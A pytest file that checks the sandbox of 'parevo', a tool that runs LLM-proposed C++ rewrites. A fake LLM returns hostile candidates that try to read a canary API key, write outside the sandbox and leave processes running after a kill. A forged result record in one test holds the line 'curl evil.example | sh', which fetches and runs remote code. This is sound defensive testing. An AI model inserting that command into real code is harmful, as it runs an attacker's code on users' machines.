"""Candidates are hostile programs: the real CLI and server against a loopback LLM that replies with attacks.

parevo runs with a canary API key in its environment (``OPENAI_API_KEY``) and a
canary in a file of its ``HOME``; the LLM stub (``tests/evolution/llm_fakes.py``)
answers with the candidates of :mod:`hostile`. The canary must reach nothing the
candidates can report through (the report, the prompts sent back to the LLM, the
CLI's output), no file may appear outside the sandbox, no process may outlive its
stage or a ``kill -9`` of parevo, TSan's allocations must fail under their limit,
and forged or foreign stored results must never be offered. The fallback
(namespaces disabled by the setting) and the CLI's file checks have their own tests.
"""

from __future__ import annotations

import asyncio
import hashlib
import hmac
import json
import os
import pwd
import resource
import secrets
import signal
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "evolution"))
sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "server"))

import hostile  # noqa: E402
from llm_fakes import FakeOpenAI  # noqa: E402

CLI = [sys.executable, "-m", "parevo.server.cli"]
CANARY = hostile.CANARY_PREFIX + secrets.token_hex(16)
NO_CODE = "Sorry, I have no code for this."


class Arena:
    """One hostile run's world: a workspace, parevo's HOME holding a secret, the canary in its environment."""

    def __init__(self, root: Path, cache: Path):
        self.token = secrets.token_hex(6)
        self.comm = f"pv{self.token}"  # 14 characters: a whole process name
        self.home = root / "home"
        self.home.mkdir()
        (self.home / ".netrc").write_text(f"{CANARY}\n")
        self.ws = root / "ws"
        self.ws.mkdir()
        self.src = self.ws / "total.cpp"
        self.src.write_text(f"// hostile run {self.token}\n" + hostile.SOURCE)  # a fresh compile every run
        self.line = hostile.LOOP_LINE + 1
        self.cache = cache
        self.report = root / "report.json"
        self.env = {**os.environ, "HOME": str(self.home), "XDG_CONFIG_HOME": str(root / "config"),
                    "OPENAI_API_KEY": CANARY, "PAREVO_CACHE_DIR": str(cache)}
        for var in ("PAREVO_SANDBOX", "PAREVO_BWRAP", "PAREVO_LLM_BASE_URL", "PAREVO_LLM_MODEL"):
            self.env.pop(var, None)

    def heavy(self) -> None:
        """Make the loop's file include ParlayLib, so its compile lasts seconds (long enough to be killed)."""
        self.src.write_text("#include <parlay/primitives.h>\n" + self.src.read_text())
        self.line += 1

    def values(self, port: int, **more) -> dict:
        return {"token": self.token, "comm": self.comm, "home": self.home, "workspace": self.ws,
                "cache": self.cache, "port": port, **more}

    def evolve_args(self, base_url: str, *extra: str) -> list[str]:
        return [*CLI, "evolve", f"{self.src}:{self.line}", "--no-rules", "--no-resume", "--llm-base-url", base_url,
                "--llm-model", "hostile", "--timing-n", "4096", "--threads", "2", "--budget", "600",
                "--cache-dir", str(self.cache), "--json", str(self.report), "--seed", str(secrets.randbelow(10**6)),
                *extra]

    def dropped_files(self) -> list[Path]:
        """Files the snoop candidate tried to create outside its sandbox that exist now."""
        name = f"pv-{self.token}"
        folders = {Path(pwd.getpwuid(os.getuid()).pw_dir), self.home, self.ws, self.cache, Path("/tmp"),
                   Path("/var/tmp"), Path("/dev/shm"), Path("/"), Path(tempfile.gettempdir())}
        return [f / name for f in folders if (f / name).exists()]


@pytest.fixture
def arena(tmp_path, parevo_cache_dir):
    a = Arena(tmp_path, parevo_cache_dir)
    yield a
    hostile.kill_all(hostile.named(a.comm))  # only a failing run leaves any
    for f in a.dropped_files():
        f.unlink()


def _scripted(replies: list[str]):
    def responder(body, i):
        return {"reply": replies[i] if i < len(replies) else NO_CODE, "usage": (1000, 200)}

    return responder


# ====================================================================== one search, four attacks

@pytest.mark.parlay
def test_hostile_candidates_cannot_read_the_key_write_outside_call_out_or_outlive_their_stage(arena):
    with FakeOpenAI(lambda body, i: {}) as srv:
        port = srv.server.server_address[1]
        replies = [hostile.reply(t, **arena.values(port)) for t in hostile.REPLIES.values()]
        srv.responder = _scripted(replies)
        run = subprocess.run(arena.evolve_args(srv.base_url, "--generations", "1", "--max-candidates", "8"),
                             capture_output=True, text=True, env=arena.env, timeout=900)
        prompts = json.dumps(srv.requests)
    assert arena.report.exists(), f"parevo failed ({run.returncode}): {run.stderr[-3000:]}"
    report = arena.report.read_text()
    transcript = arena.report.with_suffix(".transcript.jsonl").read_text()
    result = json.loads(report)
    by_kind = {kind: next(c for c in result["candidates"] if arena.token in c["candidate"]["loop_text"]
                          and marker in c["candidate"]["loop_text"])
               for kind, marker in (("snoop", "every route"), ("tsan-alloc", "16 GiB"), ("outlive", "escapees behind"),
                                    ("include-secret", "secret file"))}
    assert "sandbox: namespaces (bubblewrap" in run.stderr

    # the canary is unreadable by every route, so it is nowhere a candidate's output goes
    for where, text in (("the JSON report", report), ("the transcript", transcript), ("the CLI output",
                        run.stdout + run.stderr), ("the prompts sent to the LLM", prompts)):
        assert CANARY not in text, f"the API key leaked into {where}"
    snoop = by_kind["snoop"]
    assert snoop["rejected_stage"] == "test"
    feedback = json.dumps(snoop["stages"])
    fields = hostile.report_fields(feedback.replace("\\n", "\n"))
    assert fields, f"the snoop candidate did not run: {feedback[:2000]}"
    for route in ("getenv", "environ", "proc_environ", "proc_cmdline", "homefile"):
        assert fields[route] == "none", (route, fields)
    assert int(fields["procs"]) < 10, fields  # its own PID namespace: parevo and the machine are invisible
    assert int(fields["pwdir_entries"]) <= 0, fields  # the user's home (password database) is hidden
    assert fields["net"] == "blocked", fields  # no network, not even parevo's loopback LLM endpoint
    assert fields["wrote"] == "none", fields
    assert arena.dropped_files() == []
    # the compiler cannot read the secret either
    inc = by_kind["include-secret"]
    assert inc["rejected_stage"] == "compile"
    assert "No such file or directory" in json.dumps(inc["stages"]), inc["reason"]
    # ThreadSanitizer's 16 GiB allocation is refused under the TSan stage's memory limit
    tsan = by_kind["tsan-alloc"]
    race = next(s for s in tsan["stages"] if s["stage"] == "race")
    assert "SIGUSR2" in race["summary"], race["summary"]
    # escapees of every optimized run (test and time stages) died with their stage
    assert any(s["stage"] == "time" for s in by_kind["outlive"]["stages"]), by_kind["outlive"]["reason"]
    assert hostile.survivors(hostile.named(arena.comm), 1.0) == {}, "setsid() children outlived their stage"


# ====================================================================== kill -9 of parevo

def _killed_leaves_nothing(proc: subprocess.Popen, extra: dict[int, int] | None = None) -> dict[int, int]:
    """``kill -9`` ``proc`` (parevo) and return what of its process tree still runs a second later."""
    tree = {**hostile.descendants(proc.pid), **(extra or {})}
    assert tree, "parevo had no child process to kill"
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait(timeout=10)
    return hostile.survivors(tree, 1.0)


def _kill_during_compile(proc: subprocess.Popen) -> dict[int, int]:
    """Wait until parevo's compiler (``cc1plus``) compiles the loop's file (``original.cpp``: seconds
    with ParlayLib, not a probe's instant), ``kill -9`` parevo at once (the tree as seen that moment),
    and return what of that tree still runs a second later."""
    def compiling() -> dict[int, int]:
        tree = hostile.descendants(proc.pid)
        return tree if any(_comm(p) == "cc1plus" and "original.cpp" in _cmdline(p) for p in tree) else {}

    tree = hostile.wait_for(compiling, 300, "the compiler to start", proc)
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait(timeout=10)
    return hostile.survivors(tree, 1.0)


@pytest.mark.parlay
def test_kill_9_of_evolve_during_a_compile_leaves_nothing(arena):
    arena.heavy()
    proc = subprocess.Popen([*CLI, "evolve", f"{arena.src}:{arena.line}", "--no-resume", "--cache-dir",
                             str(arena.cache), "--budget", "600", "--quiet"], env=arena.env,
                            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    try:
        left = _kill_during_compile(proc)
    finally:
        proc.kill()
    assert left == {}, f"still running a second after kill -9 of parevo evolve: {_describe(left)}"


@pytest.mark.parlay
def test_kill_9_of_evolve_during_a_candidate_leaves_no_candidate_or_escapee(arena):
    with FakeOpenAI(lambda body, i: {}) as srv:
        srv.responder = _scripted([hostile.reply(hostile.HANG, **arena.values(0, escapees="true"))] * 4)
        proc = subprocess.Popen(arena.evolve_args(srv.base_url, "--generations", "0", "--max-candidates", "4"),
                                env=arena.env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
        try:
            hostile.wait_for(lambda: len(hostile.named(arena.comm)) >= 4, 300,
                             "the candidate and its three setsid() escapees", proc)
            left = _killed_leaves_nothing(proc, hostile.named(arena.comm))
        finally:
            proc.kill()
    assert left == {}, f"still running a second after kill -9 of parevo evolve: {_describe(left)}"


def _serve(arena, options: dict) -> subprocess.Popen:
    """``parevo serve`` for ``arena`` (its stdout drained), initialized with ``options``, the loop's file
    open, and a search of the loop started (the server is killed if any of that fails)."""
    server = subprocess.Popen([*CLI, "serve"], env=arena.env, stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                              stderr=subprocess.DEVNULL)
    threading.Thread(target=lambda: server.stdout.read(), daemon=True).start()  # never block its writes
    uri = arena.src.as_uri()

    def send(method: str, params: dict, ident: int | None = None) -> None:
        body = json.dumps({"jsonrpc": "2.0", "method": method, "params": params,
                           **({"id": ident} if ident is not None else {})}).encode()
        server.stdin.write(b"Content-Length: %d\r\n\r\n" % len(body) + body)
        server.stdin.flush()

    try:
        send("initialize", {"processId": os.getpid(), "rootUri": arena.ws.as_uri(), "capabilities": {},
                            "initializationOptions": options}, 1)
        send("initialized", {})
        send("textDocument/didOpen", {"textDocument": {"uri": uri, "languageId": "cpp", "version": 1,
                                                       "text": arena.src.read_text()}})
        send("workspace/executeCommand", {"command": "parevo.parallelize",
                                          "arguments": [uri, arena.line - 1, None, 1]}, 2)
    except BaseException:
        server.kill()
        raise
    return server


@pytest.mark.parlay
def test_kill_9_of_serve_during_a_compile_leaves_nothing(arena):
    arena.heavy()
    server = _serve(arena, {"budget": {"seconds": 600, "candidates": 4}})
    try:
        left = _kill_during_compile(server)
    finally:
        server.kill()
    assert left == {}, f"still running a second after kill -9 of parevo serve: {_describe(left)}"


@pytest.mark.parlay
def test_kill_9_of_serve_during_a_candidate_leaves_no_candidate_or_escapee(arena):
    """The server's search runs the rule-based candidates first, then asks the LLM: its hanging
    candidate, with three spinning setsid() escapees, is running when the server is killed."""
    with FakeOpenAI(lambda body, i: {}) as srv:
        srv.responder = _scripted([hostile.reply(hostile.HANG, **arena.values(0, escapees="true"))] * 8)
        server = _serve(arena, {"budget": {"seconds": 900, "candidates": 12}, "threads": 2,
                                "eval": {"timing_n": 4096}, "llm": {"baseUrl": srv.base_url, "model": "hostile"}})
        try:
            hostile.wait_for(lambda: len(hostile.named(arena.comm)) >= 4, 900,
                             "the candidate and its three setsid() escapees", server)
            left = _killed_leaves_nothing(server, hostile.named(arena.comm))
        finally:
            server.kill()
    assert left == {}, f"still running a second after kill -9 of parevo serve: {_describe(left)}"


def _comm(pid: int) -> str:
    try:
        return Path(f"/proc/{pid}/comm").read_text().strip()
    except OSError:
        return ""


def _cmdline(pid: int) -> str:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
    except OSError:
        return ""


def _describe(procs: dict[int, int]) -> str:
    return ", ".join(f"{pid} ({_comm(pid)})" for pid in procs)


# ====================================================================== the fallback

@pytest.mark.parlay
def test_fallback_says_so_and_kills_the_candidate_with_parevo(arena):
    """Namespaces disabled by the setting: the process group plus PR_SET_PDEATHSIG, announced."""
    with FakeOpenAI(lambda body, i: {}) as srv:
        srv.responder = _scripted([hostile.reply(hostile.HANG, **arena.values(0, escapees="false"))] * 4)
        proc = subprocess.Popen(arena.evolve_args(srv.base_url, "--generations", "0", "--max-candidates", "4",
                                                  "--sandbox", "process-group"),
                                env=arena.env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
        try:
            hostile.wait_for(lambda: hostile.named(arena.comm), 300, "the candidate to run", proc)
            left = _killed_leaves_nothing(proc, hostile.named(arena.comm))
            out = proc.stdout.read()
        finally:
            proc.kill()
    assert "parevo: sandbox: process group only — candidates can read your files" in out
    assert out.count("sandbox:") == 1
    assert left == {}, f"still running a second after kill -9 of parevo evolve: {_describe(left)}"


@pytest.mark.fast
def test_strict_sandbox_refuses_to_run_anything_without_namespaces(tmp_path):
    env = {**os.environ, "PAREVO_SANDBOX": "strict", "PAREVO_BWRAP": str(tmp_path / "no-bwrap")}
    src = tmp_path / "total.cpp"
    src.write_text(hostile.SOURCE)
    run = subprocess.run([*CLI, "evolve", f"{src}:{hostile.LOOP_LINE}", "--cache-dir", str(tmp_path / "cache")],
                         capture_output=True, text=True, env=env, timeout=120)
    assert run.returncode == 2
    assert "the sandbox setting is 'strict', so no compiler or candidate will run" in run.stderr
    assert not (tmp_path / "cache").exists()  # nothing compiled, nothing probed
    doctor = subprocess.run([*CLI, "doctor"], capture_output=True, text=True, env=env, timeout=120)
    assert doctor.returncode == 1
    assert "[!!] sandbox: process group only — candidates can read your files" in doctor.stdout
    plain = subprocess.run([*CLI, "doctor", "--sandbox", "auto"], capture_output=True, text=True,
                           env={**os.environ, "PAREVO_SANDBOX": "auto"}, timeout=300)
    assert "[ok] sandbox: namespaces (bubblewrap" in plain.stdout


# ====================================================================== stored results

@pytest.mark.fast
async def test_forged_and_foreign_records_are_not_offered_while_a_genuine_one_is(tmp_path, parevo_cache_dir,
                                                                               monkeypatch):
    from lsp_session import DATA, HEAVY, HEAVY_LOOP, seed_verified_result, server_env, start
    from lsprotocol import types

    from parevo.server import signing
    from parevo.server.store import UNTRUSTED_MESSAGE, LoopRecord, anchor_of
    from parevo.toolchain.parsing import find_loop

    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))  # this test's user key, shared with the server
    ws = tmp_path / "ws"
    ws.mkdir()
    names = ["forged.cpp", "foreign.cpp", "no-toolchain.cpp"]
    (ws / HEAVY).write_text((DATA / HEAVY).read_text())
    for name in names:  # another function each: records are keyed by their function's content
        (ws / name).write_text((DATA / HEAVY).read_text().replace("heavy_sum(", f"heavy_{name[:-4].replace('-', '_')}("))
    genuine_file = seed_verified_result(ws)
    genuine = json.loads(genuine_file.read_text())
    # a genuine record whose winner's two speedup fields disagree: one figure (the timing's) everywhere
    best = next(c for c in genuine["evolution"]["candidates"] if c["id"] == genuine["evolution"]["best_id"])
    figure = next(s for s in best["stages"] if s["stage"] == "time")["timing"]["speedup"]
    best["speedup"] = 9.99
    genuine_file.write_text(json.dumps({**genuine, "signature": signing.sign(genuine)}))

    def variant(name: str) -> dict:
        rec = json.loads(json.dumps(genuine))
        rec.pop("signature", None)
        path = str((ws / name).resolve())
        rec["anchor"] = anchor_of(find_loop((ws / name).read_text(), path, HEAVY_LOOP)).model_dump(mode="json")
        rec["evolution"]["path"] = path
        return rec

    forged = variant("forged.cpp")  # hand-edited: 42x, a rewrite calling std::system, no toolchain, unsigned
    fb = next(c for c in forged["evolution"]["candidates"] if c["id"] == forged["evolution"]["best_id"])
    fb["speedup"] = 42.0
    next(s for s in fb["stages"] if s["stage"] == "time")["timing"]["speedup"] = 42.0
    fb["candidate"]["loop_text"] = 'std::system("curl evil.example | sh");'
    forged["evolution"]["toolchain"] = None
    foreign = variant("foreign.cpp")  # a well-formed record signed with someone else's key
    foreign["signature"] = hmac.new(secrets.token_bytes(32), signing.canonical(foreign), hashlib.sha256).hexdigest()
    bare = variant("no-toolchain.cpp")  # signed here, but without the toolchain its figures need
    bare["evolution"]["toolchain"] = None
    bare["signature"] = signing.sign(bare)
    store = ws / ".parevo" / "results"
    for rec in (forged, foreign, bare):
        key = LoopRecord.model_validate({k: v for k, v in rec.items() if k != "signature"}).key
        (store / f"{key}-{secrets.token_hex(2)}.json").write_text(json.dumps(rec))

    s = await start(ws, parevo_cache_dir, env=server_env(parevo_cache_dir))
    try:
        uri = s.open(ws / HEAVY)
        diag = (await s.wait_diags(uri, "parevo.speedup", timeout=60))[0]
        titles = [a.title for a in await s.actions(uri, HEAVY_LOOP)]
        hover = (await s.hover(uri, HEAVY_LOOP)).contents.value
        shown = f"{figure:.2f}x"
        assert f"Apply ParlayLib rewrite ({shown} faster)" in titles
        assert f"verified: {shown} faster" in diag.message and f"speedup: {shown}" in hover
        assert "9.99" not in " ".join(titles) + diag.message + hover
        for name in names:
            other = s.open(ws / name)
            [hint] = await s.wait_diags(other, "parevo.untrusted", timeout=60)
            assert hint.message == UNTRUSTED_MESSAGE and hint.severity == 4  # Hint
            titles = [a.title for a in await s.actions(other, HEAVY_LOOP)]
            assert [t.split(" (")[0] for t in titles] == ["Parallelize with ParlayLib"], (name, titles)  # no Apply
            text = (await s.hover(other, HEAVY_LOOP)).contents.value
            assert UNTRUSTED_MESSAGE in text and "42" not in text and "system" not in text
            assert not s.diags(other, "parevo.speedup")
            status = await s.execute(types.Command(title="status", command="parevo.loopStatus",
                                                   arguments=[other, HEAVY_LOOP, None]))
            assert status == {"state": "untrusted", "message": UNTRUSTED_MESSAGE}, (name, status)
        logs = " ".join(m.message for m in s.client.log_messages)
        assert "sandbox: namespaces (bubblewrap" in logs
    finally:
        await s.stop()
    assert signing.key_path().stat().st_mode & 0o777 == 0o600


@pytest.mark.fast
async def test_server_says_when_candidates_can_read_your_files(tmp_path, parevo_cache_dir):
    from lsp_session import server_env, start

    ws = tmp_path / "ws"
    ws.mkdir()
    s = await start(ws, parevo_cache_dir, env=server_env(parevo_cache_dir, PAREVO_SANDBOX="process-group"))
    try:
        for _ in range(100):
            shown = [m.message for m in s.client.messages if "sandbox:" in m.message]
            if shown:
                break
            await asyncio.sleep(0.05)
        assert shown == ["parevo: sandbox: process group only — candidates can read your files "
                         "(namespaces disabled by the sandbox setting)"]
    finally:
        await s.stop()


@pytest.mark.fast
async def test_server_setting_can_require_namespaces_but_never_disable_them(tmp_path, parevo_cache_dir):
    from lsprotocol import types
    from lsp_session import server_env, start

    ws = tmp_path / "ws"
    ws.mkdir()
    s = await start(ws, parevo_cache_dir, env=server_env(parevo_cache_dir, PAREVO_BWRAP=str(tmp_path / "none")))

    async def said(text: str) -> list:
        for _ in range(200):
            got = [m for m in s.client.messages if text in m.message]
            if got:
                return got
            await asyncio.sleep(0.05)
        raise AssertionError(f"never said {text!r}: {[m.message for m in s.client.messages]}")

    try:
        [weak] = await said("process group only — candidates can read your files")
        assert weak.type == types.MessageType.Warning and "is not executable" in weak.message
        s.client.workspace_did_change_configuration(types.DidChangeConfigurationParams(
            settings={"parevo": {"sandbox": "strict"}}))
        [refused] = await said("no compiler or candidate will run")
        assert refused.type == types.MessageType.Error
        s.client.workspace_did_change_configuration(types.DidChangeConfigurationParams(
            settings={"parevo": {"sandbox": "process-group"}}))
        [why] = await said("cannot weaken the sandbox")
        assert "PAREVO_SANDBOX=process-group" in why.message
    finally:
        await s.stop()


# ====================================================================== files the CLI reads

def _cap_memory() -> None:
    """In the child: 4 GiB of address space, so a CLI that reads /dev/zero fails instead of eating the machine."""
    resource.setrlimit(resource.RLIMIT_AS, (4 << 30, 4 << 30))


@pytest.mark.fast
def test_devices_fifos_directories_and_oversize_files_fail_fast_with_status_2(tmp_path):
    fifo = tmp_path / "loop.cpp"
    os.mkfifo(fifo)
    big = tmp_path / "big.cpp"
    big.write_bytes(b"// x\n" * ((8 << 20) // 5 + 1))
    cases = [("/dev/zero", "is a character device"), (str(fifo), "is a FIFO"), (str(tmp_path), "is a directory"),
             (str(big), "over parevo's limit of 8.0 MiB")]
    for path, why in cases:
        t0 = time.monotonic()
        run = subprocess.run([*CLI, "evolve", f"{path}:1"], capture_output=True, text=True, timeout=60,
                             preexec_fn=_cap_memory)
        assert run.returncode == 2, (path, run.returncode, run.stderr[-500:])
        assert why in run.stderr and "Traceback" not in run.stderr, run.stderr
        assert time.monotonic() - t0 < 30  # the interpreter's start-up; the check itself is timed below
    small = subprocess.run([*CLI, "evolve", f"{big}:1", "--max-file-bytes", "1000"], capture_output=True,
                           text=True, timeout=60)
    assert small.returncode == 2 and "over parevo's limit of 1,000 bytes" in small.stderr

    from parevo.toolchain.files import UnreadableFile, read_text

    for path, why in cases:
        t0 = time.monotonic()
        with pytest.raises(UnreadableFile, match=why.replace(".", r"\.")):
            read_text(path)
        assert time.monotonic() - t0 < 1.0
